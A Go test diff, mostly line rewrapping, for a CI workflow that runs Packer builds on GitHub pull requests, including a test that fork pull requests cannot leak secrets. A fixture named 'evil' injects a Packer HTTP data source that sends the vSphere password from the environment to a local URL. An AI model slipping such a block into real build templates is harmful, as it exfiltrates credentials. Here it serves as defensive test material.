@@ -80,10 +80,12 @@ func TestPullRequest(t *testing.T) {
 		}
 	}
 	s.outputs(r, "change", "change", "plan.json", "findings.sarif")
-	if checks := s.hub.Checks(); len(checks) != 1 || checks[0]["conclusion"] != "success" || checks[0]["head_sha"] != first.head {
+	if checks := s.hub.Checks(); len(checks) != 1 || checks[0]["conclusion"] != "success" ||
+		checks[0]["head_sha"] != first.head {
 		t.Errorf("the check-runs are %v", checks)
 	}
-	if comments := s.hub.Comments(); len(comments) != 1 || !strings.Contains(fmt.Sprint(comments[0]["body"]), "1 of 6 targets to build") {
+	if comments := s.hub.Comments(); len(comments) != 1 ||
+		!strings.Contains(fmt.Sprint(comments[0]["body"]), "1 of 6 targets to build") {
 		t.Errorf("the comments are %v", comments)
 	}
 	if errors := r.of("error"); len(errors) > 0 {
@@ -93,10 +95,12 @@ func TestPullRequest(t *testing.T) {
 	// The next commit of the same change has a mistake: the same comment, a check of its own.
 	s.open(second)
 	r = s.act("pull_request", second.event)
-	if comments := s.hub.Comments(); !slices.Equal(r.exits(), []string{"2"}) || len(comments) != 1 || !strings.Contains(fmt.Sprint(comments[0]["body"]), "playbok_file") {
+	if comments := s.hub.Comments(); !slices.Equal(r.exits(), []string{"2"}) || len(comments) != 1 ||
+		!strings.Contains(fmt.Sprint(comments[0]["body"]), "playbok_file") {
 		t.Errorf("exit codes %v, comments %v", r.exits(), comments)
 	}
-	if checks := s.hub.Checks(); len(checks) != 2 || checks[1]["conclusion"] != "failure" || checks[1]["head_sha"] != second.head {
+	if checks := s.hub.Checks(); len(checks) != 2 || checks[1]["conclusion"] != "failure" ||
+		checks[1]["head_sha"] != second.head {
 		t.Errorf("the check-runs are %v", checks)
 	}
 	s.annotated(r, "templates/os/linux.pkr.hcl")
@@ -109,12 +113,14 @@ func TestFork(t *testing.T) {
 	s.secrets["PKR_VAR_VSPHERE_PASSWORD"] = "a-password-of-a-test"
 	good := s.change("good", 6, func() { s.write("configs/lab/debian-12@vsphere.pkrvars.hcl", "vm_memory_mb = 8192\n") })
 	evil := s.change("evil", 6, func() {
-		s.edit("templates/os/linux.pkr.hcl", "\nbuild {", "\ndata \"http\" \"steal\" {\n  url = \"http://127.0.0.1:1/${env(\"PKR_VAR_vsphere_password\")}\"\n}\n\nbuild {")
+		s.edit("templates/os/linux.pkr.hcl", "\nbuild {", "\ndata \"http\" \"steal\" {\n  url = "+
+			"\"http://127.0.0.1:1/${env(\"PKR_VAR_vsphere_password\")}\"\n}\n\nbuild {")
 	})
 	s.github([]string{good.head, evil.head}, "checks", "issues") // GitHub's token for forks only reads
 	s.open(good)
 	r := s.act("pull_request", good.event)
-	if r.code != 0 || !strings.Contains(r.summary(), "1 of 6 targets to build") || !strings.Contains(r.summary(), "another repository") {
+	if r.code != 0 || !strings.Contains(r.summary(), "1 of 6 targets to build") ||
+		!strings.Contains(r.summary(), "another repository") {
 		t.Errorf("exit code %d, summary:\n%s\n%s", r.code, r.summary(), r.log())
 	}
 	s.open(evil)
@@ -174,7 +180,10 @@ func (s *site) outputs(r ran, job, artifact string, files ...string) {
 // it, of which act says what it was told.
 func (s *site) noSecret(r ran) {
 	s.t.Helper()
-	shown := map[string]string{"the summary": r.summary(), "the log": r.log(), "GitHub": fmt.Sprint(s.hub.Comments(), s.hub.Checks())}
+	shown := map[string]string{
+		"the summary": r.summary(), "the log": r.log(),
+		"GitHub": fmt.Sprint(s.hub.Comments(), s.hub.Checks()),
+	}
 	masked := map[string]bool{}
 	for _, e := range r.of("add-mask") {
 		masked[e.Arg] = true
